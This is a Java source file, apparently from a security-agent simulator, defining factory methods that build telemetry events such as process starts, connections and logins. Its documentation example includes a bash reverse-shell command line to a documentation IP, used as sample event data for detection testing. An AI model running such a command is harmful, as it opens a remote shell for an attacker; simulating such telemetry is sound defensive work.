package io.vigil.simulator.agent;

/**
 * Where every event builder starts. Each method returns a fluent builder for one event type of the v1 security
 * message; add the result to an {@link AgentMessage}.
 *
 * <pre>{@code
 * byte[] body = AgentMessage.from(agentId)
 *         .event(Events.processCreate("/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
 *                 .processId(4242).parentProcessId(4100).user("1000", "pi"))
 *         .event(Events.loginFailure("/usr/sbin/sshd", "admin").remote("203.0.113.9", 51234).localPort(22))
 *         .toJson();
 * }</pre>
 */
public final class Events {

    private Events() {
    }

    /** A started process; see {@link ProcessCreate} for the defaults. */
    public static ProcessCreate processCreate(String executable, String commandLine) {
        return new ProcessCreate(executable, commandLine);
    }

    public static ProcessTerminate processTerminate(String executable, int processId, int exitStatus) {
        return new ProcessTerminate(executable, processId, exitStatus);
    }

    /** A connection the device opened to {@code remoteAddress:remotePort}. */
    public static ConnectionCreate outboundConnection(String executable, String remoteAddress, int remotePort) {
        return new ConnectionCreate(Direction.OUT, executable, remoteAddress, Ports.of(remotePort));
    }

    /** A connection the device accepted from {@code remoteAddress:remotePort}. */
    public static ConnectionCreate inboundConnection(String executable, String remoteAddress, int remotePort) {
        return new ConnectionCreate(Direction.IN, executable, remoteAddress, Ports.of(remotePort));
    }

    public static ConnectionCreate connectionCreate(Direction direction, String executable, String remoteAddress,
                                                    String remotePort) {
        return new ConnectionCreate(direction, executable, remoteAddress, remotePort);
    }

    /** A login attempt handled by {@code executable} ({@code /usr/sbin/sshd}, {@code /bin/login}, {@code /bin/su}). */
    public static Login login(Login.Result result, String executable) {
        return new Login(result, executable);
    }

    public static Login loginSuccess(String executable, String userName) {
        return new Login(Login.Result.SUCCESS, executable).userName(userName);
    }

    public static Login loginFailure(String executable, String userName) {
        return new Login(Login.Result.FAIL, executable).userName(userName);
    }

    public static ListeningPorts listeningPorts() {
        return new ListeningPorts();
    }

    public static FirewallConfiguration firewallConfiguration() {
        return new FirewallConfiguration();
    }

    public static LocalUsers localUsers() {
        return new LocalUsers();
    }

    public static SystemInformation systemInformation() {
        return new SystemInformation();
    }

    public static OSBaseline osBaseline() {
        return new OSBaseline();
    }

    public static ConnectedHardware connectedHardware() {
        return new ConnectedHardware();
    }

    public static Diagnostic diagnostic(Diagnostic.Severity severity, String message) {
        return new Diagnostic(severity, message);
    }

    public static ConfigurationError configurationError(String configurationName,
                                                        ConfigurationError.ErrorType errorType,
                                                        String usedConfiguration, String message) {
        return new ConfigurationError(configurationName, errorType, usedConfiguration, message);
    }

    public static DroppedEventsStatistics droppedEventsStatistics() {
        return new DroppedEventsStatistics();
    }

    public static MessageStatistics messageStatistics(long messagesSent, long messagesUnder4Kb, long totalFailed) {
        return new MessageStatistics(messagesSent, messagesUnder4Kb, totalFailed);
    }

    /** Not in the published schema; see {@link Heartbeat}. */
    public static Heartbeat heartbeat() {
        return new Heartbeat();
    }
}
